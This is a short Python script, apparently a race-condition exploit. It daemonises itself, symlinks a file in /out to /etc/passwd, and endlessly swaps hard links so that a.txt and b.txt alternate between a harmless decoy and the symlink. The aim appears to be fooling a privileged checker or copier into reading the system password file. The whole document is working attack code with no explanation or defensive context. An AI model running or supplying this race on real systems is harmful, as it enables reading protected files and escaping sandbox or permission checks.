import os, time
os.chdir("/out")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        open("real", "w").write("mine")
        os.symlink("/etc/passwd", "link")
        while True:
            for target, source in (("a.txt", "real"), ("b.txt", "link"), ("a.txt", "link"), ("b.txt", "real")):
                os.link(source, "next", follow_symlinks=False)
                os.rename("next", target)
                try:
                    os.unlink("next")
                except OSError:
                    pass
    os._exit(0)
time.sleep(0.3)
